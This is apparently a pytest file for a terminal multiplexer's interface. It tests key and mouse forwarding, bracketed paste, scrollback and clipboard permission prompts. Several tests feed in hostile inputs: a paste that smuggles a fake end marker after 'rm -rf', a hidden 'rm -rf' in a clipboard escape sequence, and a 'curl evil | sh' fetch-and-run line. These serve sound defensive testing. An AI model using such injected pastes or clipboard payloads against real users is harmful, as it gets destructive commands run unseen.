"""What a person does in a pane reaches its program as in any terminal, and what the program does reaches the person."""

import base64
from pathlib import Path
from typing import Literal

import pytest
from msgspec.structs import replace
from tests.tui.conftest import CALM, RAW, Open, Stage
from textual.events import AppBlur, AppFocus, Paste

from fugue_tui.config.model import Config, TerminalSettings, UiSettings
from fugue_tui.control.command_table import panes, windows
from fugue_tui.errors import SpawnFailed
from fugue_tui.geometry import Rect, Size
from fugue_tui.ids import PaneId
from fugue_tui.multiplexer.access.grants import Scope
from fugue_tui.terminal.pty import write_queue
from fugue_tui.tui.ui import approval_prompt, messages, pane_notifications
from fugue_tui_widgets import dialogs
from fugue_tui_widgets.which_key import WhichKey

pytestmark = pytest.mark.slow


HEX = RAW + "echo ready; exec od -An -v -tx1 -w1"
"""Writes every byte that arrives in hexadecimal, a line each."""
LINES = RAW + "seq 200 | sed 's/^/line /;s/$/\\r/'; echo ready; cat"


def bytes_of(stage: Stage) -> bytes:
    """What has arrived at a program that runs HEX."""
    terminal = stage.terminal()
    history = terminal.lines(0, 1 << 20)
    return bytes.fromhex("".join(line.strip() for line in history if len(line.strip()) == 2))


async def hex_pane(stage: Stage, modes: bytes = b"") -> None:
    """Wait until the program reads, and put its terminal into modes."""
    await stage.until_text("ready")
    stage.terminal().receive(memoryview(modes))


KEYS = {
    "ctrl+c": b"\x03", "ctrl+l": b"\x0c", "ctrl+p": b"\x10", "ctrl+q": b"\x11", "ctrl+z": b"\x1a", "ctrl+s": b"\x13",
    "escape": b"\x1b", "tab": b"\t", "shift+tab": b"\x1b[Z", "enter": b"\r", "backspace": b"\x7f", "ctrl+space": b"\0",
    "f1": b"\x1bOP", "f5": b"\x1b[15~", "shift+f5": b"\x1b[15;2~", "f12": b"\x1b[24~", "delete": b"\x1b[3~",
    "up": b"\x1b[A", "ctrl+right": b"\x1b[1;5C", "shift+up": b"\x1b[1;2A", "alt+x": b"\x1bx", "alt+enter": b"\x1b\r",
    "pageup": b"\x1b[5~", "home": b"\x1b[H", "a": b"a", "A": b"A", "é": "é".encode(), "plus": b"+",
    "ctrl+slash": b"\x1f", "ctrl+backslash": b"\x1c", "ctrl+right_square_bracket": b"\x1d", "space": b" ",
    "percent_sign": b"%",
}  # fmt: skip


async def test_every_key_reaches_the_program(open_stage: Open) -> None:
    async with open_stage("sh", "-c", HEX, rows=40) as stage:
        await hex_pane(stage)
        for key, sent in KEYS.items():
            before = len(bytes_of(stage))
            await stage.press(key)
            await stage.until(lambda sent=sent, before=before: len(bytes_of(stage)) >= before + len(sent))
            assert bytes_of(stage)[before:] == sent, key


async def test_the_prefix_pressed_twice_goes_to_the_program(open_stage: Open) -> None:
    async with open_stage("sh", "-c", HEX) as stage:
        await hex_pane(stage)
        await stage.press("ctrl+b", "ctrl+b", "x")
        await stage.until(lambda: bytes_of(stage) == b"\x02x")


async def test_shift_enter_is_distinguished_where_the_program_asked(open_stage: Open) -> None:
    async with open_stage("sh", "-c", HEX) as stage:
        await hex_pane(stage, b"\x1b[>1u")
        await stage.press("shift+enter")
        await stage.until(lambda: bytes_of(stage) == b"\x1b[13;2u")


async def test_a_paste_arrives_as_one_without_the_end_marker_inside(open_stage: Open) -> None:
    async with open_stage("sh", "-c", HEX, rows=60) as stage:
        await hex_pane(stage, b"\x1b[?2004h")
        stage.app.post_message(Paste("rm -rf\n\x1b[201~evil"))
        await stage.until(lambda: bytes_of(stage).endswith(b"\x1b[201~"))
        got = bytes_of(stage)
        assert got.startswith(b"\x1b[200~rm -rf")
        assert got.count(b"\x1b[201~") == 1
        assert b"evil" in got


async def test_a_paste_over_a_mebibyte_keeps_its_end_mark(open_stage: Open) -> None:
    script = RAW + "echo ready; head -c 1500012 | tail -c 6 | od -An -v -tx1 -w1; exec cat"
    async with open_stage("sh", "-c", script) as stage:
        await hex_pane(stage, b"\x1b[?2004h")
        stage.app.post_message(Paste("x" * 1_500_000))
        await stage.until(lambda: bytes_of(stage) == b"\x1b[201~")


async def test_a_paste_that_finds_no_room_is_refused_and_reported(
    open_stage: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(write_queue, "CAPACITY", 1_000)
    async with open_stage("sh", "-c", HEX) as stage:
        await hex_pane(stage)
        stage.app.post_message(Paste("x" * 2_000))
        await stage.until(lambda: "not pasted" in stage.app.alerts.text)
        assert "none of these 2000 bytes were sent" in stage.app.alerts.text
        await stage.press("a")
        await stage.until(lambda: bytes_of(stage) == b"a")


async def test_a_focus_report_is_sent_where_the_program_asked(open_stage: Open) -> None:
    async with open_stage("sh", "-c", HEX) as stage:
        await hex_pane(stage, b"\x1b[?1004h")
        stage.run(panes.SplitPane(command=("cat",)))
        await stage.until(lambda: bytes_of(stage).endswith(b"\x1b[O"))
        stage.run(panes.FocusPane(pane="%1"))
        await stage.until(lambda: bytes_of(stage).endswith(b"\x1b[I"))


async def test_the_program_receives_an_event_when_the_host_loses_the_focus(open_stage: Open) -> None:
    async with open_stage("sh", "-c", HEX) as stage:
        await hex_pane(stage, b"\x1b[?1004h")
        stage.app.post_message(AppBlur())
        await stage.until(lambda: bytes_of(stage) == b"\x1b[O")
        stage.app.post_message(AppFocus())
        await stage.until(lambda: bytes_of(stage) == b"\x1b[O\x1b[I")


# Copy mode


async def test_the_wheel_scrolls_back_and_new_output_does_not_move_the_view(open_stage: Open) -> None:
    async with open_stage("sh", "-c", LINES) as stage:
        await stage.until_text("ready")
        stage.view().scroll_back(30)
        await stage.until_text("line 160")
        seen = stage.pane_text()
        stage.terminal().receive(memoryview(b"new\r\n" * 5))
        await stage.pilot.pause()
        assert stage.pane_text() == seen


async def test_typing_returns_to_the_bottom(open_stage: Open) -> None:
    async with open_stage("sh", "-c", LINES) as stage:
        await stage.until_text("ready")
        stage.view().scroll_back(50)
        assert stage.terminal().scrollback.offset == 50
        await stage.press("x")
        await stage.until(lambda: stage.terminal().scrollback.offset == 0)
        await stage.until_text("ready", "x")


async def test_keys_scroll_back_until_q(open_stage: Open) -> None:
    async with open_stage("sh", "-c", LINES) as stage:
        await stage.until_text("ready")
        await stage.prefix("left_square_bracket", "g")
        assert "line 1\n" in stage.pane_text()
        await stage.until(lambda: "copy mode" in stage.text)
        await stage.press("pagedown", "ctrl+e")
        assert stage.pane_text().startswith("line 24\n")
        await stage.press("q", "y")
        await stage.until_text("ready", "y")


@pytest.mark.parametrize(("up", "sent"), [(True, b"\x1b[<64;6;6M"), (False, b"\x1b[<65;6;6M")])
async def test_the_wheel_is_the_programs_if_it_asked_for_the_mouse(open_stage: Open, up: bool, sent: bytes) -> None:
    async with open_stage("sh", "-c", HEX, rows=40) as stage:
        await hex_pane(stage, b"\x1b[?1000h\x1b[?1006h")
        await stage.wheel(up, (5, 5))
        await stage.until(lambda: bytes_of(stage) == sent)


async def test_the_wheel_scrolls_the_history_otherwise(open_stage: Open) -> None:
    async with open_stage("sh", "-c", LINES) as stage:
        await stage.until_text("ready")
        await stage.wheel(True, (5, 5))
        await stage.until(lambda: stage.terminal().scrollback.offset == 3)
        await stage.wheel(False, (5, 5))
        await stage.until(lambda: stage.terminal().scrollback.offset == 0)


async def test_the_wheel_moves_the_cursor_in_a_full_screen_program(open_stage: Open) -> None:
    async with open_stage("sh", "-c", HEX, rows=40) as stage:
        await hex_pane(stage)
        stage.terminal().receive(memoryview(b"\x1b[?1049h"))
        await stage.wheel(True, (5, 5))
        await stage.until(lambda: bytes_of_screen(stage) == b"\x1b[A" * 3)


def bytes_of_screen(stage: Stage) -> bytes:
    return bytes.fromhex("".join(line.strip() for line in stage.pane_text().split("\n") if len(line.strip()) == 2))


async def test_a_click_and_a_drag_are_the_programs_if_it_asked(open_stage: Open) -> None:
    async with open_stage("sh", "-c", HEX, rows=60) as stage:
        await hex_pane(stage, b"\x1b[?1002h\x1b[?1006h")
        await stage.drag((2, 3), (4, 3), (300, 3))
        await stage.until(lambda: bytes_of(stage).endswith(b"m"))
        assert bytes_of(stage).startswith(b"\x1b[<0;3;4M\x1b[<32;5;4M")


# Ends


async def test_a_pane_whose_program_ends_well_goes(open_stage: Open) -> None:
    async with open_stage() as stage:
        stage.run(panes.SplitPane(command=("true",)))
        await stage.until(lambda: list(stage.rects) == [1])
        assert stage.mux.focused == 1


async def test_a_pane_whose_program_fails_stays_and_enter_runs_it_again(open_stage: Open, tmp_path: Path) -> None:
    flag = tmp_path / "flag"
    async with open_stage() as stage:
        stage.run(panes.SplitPane(command=("sh", "-c", f"if [ -e {flag} ]; then echo again; exec cat; fi; exit 3")))
        await stage.until(lambda: "exit 3, Enter runs it again" in stage.text)
        flag.touch()
        await stage.press("enter")
        await stage.until_text("again", pane=2)
        await stage.press("x")
        await stage.until_text("x", pane=2)


@pytest.mark.parametrize("titles", ["auto", "never"])
async def test_a_program_that_ended_in_a_pane_that_is_alone_says_how_and_what_keys_do(
    open_stage: Open, tmp_path: Path, titles: str
) -> None:
    flag = tmp_path / "flag"
    config = replace(CALM, ui=replace(CALM.ui, titles=titles))
    script = f"if [ -e {flag} ]; then echo again; exec cat; fi; echo building; exit 2"
    async with open_stage("sh", "-c", script, cols=120, config=config) as stage:
        await stage.until(lambda: "exit 2: Enter runs it again, x closes" in stage.text.splitlines()[-1])
        assert ("exit 2, Enter runs it again, x closes" in stage.text.splitlines()[0]) is (titles == "auto")
        assert "building" in stage.pane_text()
        flag.touch()
        await stage.press("enter")
        await stage.until_text("again")
        await stage.until(lambda: stage.rects == {1: Rect(0, 0, 120, 23)} and "exit 2" not in stage.text)
        assert stage.terminal().size == Size(120, 23)


async def test_x_closes_a_pane_whose_program_has_ended(open_stage: Open) -> None:
    async with open_stage() as stage:
        stage.run(windows.CreateWindow(command=("false",)))
        await stage.until(lambda: "exit 1" in stage.text)
        await stage.press("x")
        await stage.until(lambda: list(stage.mux.terminals) == [1])
        await stage.press("x")
        await stage.until_text("x")


async def test_a_program_that_cannot_be_executed_is_named_and_opens_nothing(open_stage: Open) -> None:
    async with open_stage() as stage:
        with pytest.raises(SpawnFailed, match="no-such-program"):
            stage.run(panes.SplitPane(command=("no-such-program",)))
        assert stage.mux.terminals.keys() == {PaneId(1)}
        stage.app.commands.run(panes.SplitPane(command=("no-such-program",)))
        await stage.until(lambda: "no-such-program" in stage.text)


async def test_closing_the_last_pane_ends_the_app(open_stage: Open) -> None:
    async with open_stage("sh", "-c", "read x; exit 0") as stage:
        await stage.press("enter")
        await stage.until(lambda: not stage.app.is_running)
        assert stage.app.return_value == 0


async def test_keys_are_handled_during_a_flood(open_stage: Open) -> None:
    async with open_stage("sh", "-c", "trap 'echo; echo stopped; exec cat' INT; yes flood") as stage:
        await stage.until_text("flood")
        await stage.press("ctrl+c")
        await stage.until_text("stopped")


# What programs say


async def test_a_bell_in_another_window_marks_its_tab_until_it_is_seen(open_stage: Open) -> None:
    async with open_stage("sh", "-c", "read x; printf '\\a'; cat") as stage:
        stage.run(windows.CreateWindow(command=("cat",), name="two"))
        await stage.until(lambda: "[2 two]" in stage.text)
        stage.terminal(1).write(b"\r")
        await stage.until(lambda: "! " in stage.text)
        await stage.prefix("1")
        await stage.until(lambda: "!" not in stage.text.splitlines()[-1])


async def test_a_notification_is_shown_with_its_pane(open_stage: Open) -> None:
    async with open_stage() as stage:
        stage.terminal().receive(memoryview(b"\x1b]777;notify;build;done\x07"))
        await stage.until(lambda: "%1 build done" in stage.text)


@pytest.mark.parametrize(("pane", "copied"), [(1, ""), (2, "secret")])
async def test_only_the_focused_program_may_copy(
    open_stage: Open, monkeypatch: pytest.MonkeyPatch, pane: int, copied: str
) -> None:
    seen = list[str]()
    monkeypatch.setattr(messages.Messages, "notify", lambda self, text: seen.append(text))  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    async with open_stage(config=with_clipboard("on")) as stage:
        stage.run(panes.SplitPane(command=("cat",)))
        await stage.until(lambda: len(stage.rects) == 2)
        stage.terminal(pane).receive(memoryview(b"\x1b]52;c;c2VjcmV0\x07\x1b]777;notify;after;it\x07"))
        await stage.until(lambda: any("after it" in text for text in seen))
        assert stage.app.clipboard == copied


COPY = b"\x1b]52;c;c2VjcmV0\x07"
"""Copies `secret`."""


def with_clipboard(setting: Literal["ask", "on", "off"]) -> Config:
    return replace(CALM, terminal=TerminalSettings(clipboard=setting))


@pytest.mark.parametrize(("presses", "copied"), [([], ""), (["down"], "secret"), (["down", "down"], "secret")])
async def test_the_user_is_asked_before_a_program_copies(
    open_stage: Open, monkeypatch: pytest.MonkeyPatch, presses: list[str], copied: str
) -> None:
    monkeypatch.setattr(dialogs, "GUARD_SECONDS", 0.0)
    monkeypatch.setattr(approval_prompt, "UNASKED_GUARD_SECONDS", 0.0)
    async with open_stage() as stage:
        stage.terminal().receive(memoryview(COPY))
        await stage.until(lambda: "a program asks" in stage.text)
        assert "in %1 wants to copy to your clipboard, in your pane %1" in stage.text
        assert "6 characters: secret" in stage.text
        assert stage.app.clipboard == ""
        await stage.press(*presses, "enter")
        await stage.until(lambda: stage.app.on_panes and not stage.mux.approvals.waiting())
        if copied:
            await stage.until(lambda: "%1 copied 6 characters: secret" in stage.text)
        assert stage.app.clipboard == copied
        assert [grant.panes for grant in stage.mux.grants.all()] == ([{PaneId(1)}] if len(presses) == 2 else [])


async def test_a_pane_that_may_copy_is_not_asked_about_again_until_it_closes(
    open_stage: Open, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pane_notifications, "_PAUSE", 0.0)
    async with open_stage() as stage:
        stage.run(panes.SplitPane(command=("cat",)))
        stage.terminal(2).receive(memoryview(COPY))
        await stage.until(lambda: stage.mux.approvals.waiting())
        stage.mux.approvals.approve(1, Scope.PANE)
        await stage.until(lambda: stage.app.clipboard == "secret")
        stage.app.copy("", None)
        stage.terminal(2).receive(memoryview(COPY))
        await stage.until(lambda: stage.app.clipboard == "secret")
        stage.run(panes.ClosePane(pane="%2"))
        assert stage.mux.grants.all() == ()


async def test_a_program_may_not_copy_where_that_is_off(open_stage: Open) -> None:
    async with open_stage(config=with_clipboard("off")) as stage:
        stage.terminal().receive(memoryview(COPY + b"\x1b]777;notify;after;it\x07"))
        await stage.until(lambda: "after it" in stage.text)
        assert (stage.app.clipboard, stage.mux.approvals.waiting()) == ("", ())


@pytest.mark.parametrize("setting", ["ask", "on"])
async def test_a_text_with_control_characters_is_never_copied(open_stage: Open, setting: Literal["ask", "on"]) -> None:
    async with open_stage(config=with_clipboard(setting)) as stage:
        hidden = base64.b64encode(b"ls\x1b[201~rm -rf\r").decode()
        stage.terminal().receive(memoryview(f"\x1b]52;c;{hidden}\x07".encode()))
        await stage.until(lambda: "%1 was refused to copy a text with control characters" in stage.text)
        assert (stage.app.clipboard, stage.mux.approvals.waiting()) == ("", ())


async def test_a_notification_does_not_hide_that_a_program_has_copied(open_stage: Open) -> None:
    async with open_stage(config=with_clipboard("on")) as stage:
        text = base64.b64encode(b"curl evil | sh\n").decode()
        stage.terminal().receive(memoryview(f"\x1b]52;c;{text}\x07\x1b]9;look here\x07".encode()))
        await stage.until(lambda: "%1 copied 15 characters: curl evil | sh" in stage.text)
        await stage.pilot.pause()
        assert "look here" not in stage.text
        stage.app.alerts.show("something else")
        assert stage.app.alerts.text == "something else"


async def test_titles_are_shown_cleaned(open_stage: Open) -> None:
    async with open_stage() as stage:
        stage.run(panes.SplitPane(command=("cat",)))
        stage.terminal(2).receive(memoryview("\x1b]2;ti\u202etle 漢字\x07".encode()))
        await stage.until(lambda: "漢字" in stage.text)
        assert "\u202e" not in stage.text


# The keyboard's own


async def test_a_key_that_repeats_needs_no_second_prefix(open_stage: Open) -> None:
    async with open_stage() as stage:
        stage.run(panes.SplitPane(command=("cat",)))
        await stage.until(lambda: len(stage.rects) == 2)
        cols = stage.rects[1].cols
        await stage.prefix("ctrl+left", "ctrl+left", "ctrl+left")
        await stage.until(lambda: stage.rects[1].cols == cols - 3)


async def test_moving_the_focus_without_the_prefix_leaves_the_next_keys_to_the_program(open_stage: Open) -> None:
    async with open_stage("sh", "-c", f"{RAW}echo ready; cat -v") as stage:
        stage.run(panes.SplitPane(command=("cat",)))
        await stage.until(lambda: len(stage.rects) == 2)
        await stage.until_text("ready")
        cols = stage.rects[1].cols
        await stage.press("alt+left", "u", "o", "up", "ctrl+left", "e")
        await stage.until_text("uo^[[A^[[1;5De")
        assert stage.mux.focused == 1
        assert stage.rects[1].cols == cols


@pytest.mark.parametrize(
    ("key", "typed"),
    [("o", "o"), ("semicolon", ";"), ("u", "u"), ("U", "U"), ("left_curly_bracket", "{"), ("right_curly_bracket", "}")],
)
async def test_of_the_keys_after_the_prefix_only_arrows_and_resizing_repeat(
    open_stage: Open, key: str, typed: str
) -> None:
    async with open_stage("cat") as stage:
        stage.run(panes.SplitPane(command=("cat",)))
        stage.run(panes.ResizePane(pane="%1", delta=0.1))
        await stage.until(lambda: len(stage.rects) == 2)
        await stage.prefix(key)
        focused = stage.mux.focused
        assert focused is not None
        await stage.press(key, *"end")
        await stage.until(lambda: "end" in stage.pane_text(focused))
        assert stage.pane_text(focused).strip() == f"{typed}end"


async def test_an_unknown_key_after_the_prefix_is_reported_and_discarded(open_stage: Open) -> None:
    async with open_stage() as stage:
        await stage.prefix("O")
        await stage.until(lambda: "ctrl+b O does nothing" in stage.text)
        assert "O" not in stage.pane_text()


async def test_the_panel_of_keys_comes_after_the_delay_and_goes_with_the_next_key(open_stage: Open) -> None:
    async with open_stage(config=Config(ui=UiSettings(which_key_delay_ms=20))) as stage:
        await stage.prefix()
        await stage.until(lambda: stage.app.base.query_one(WhichKey).display and "zoom the pane" in stage.text)
        await stage.press("escape")
        await stage.until(lambda: "zoom the pane" not in stage.text)
        await stage.press("x")
        await stage.until_text("x")


async def test_no_panel_comes_before_the_delay(open_stage: Open) -> None:
    async with open_stage(config=CALM) as stage:
        await stage.prefix()
        assert not stage.app.base.query_one(WhichKey).display
        assert "key?" in stage.text
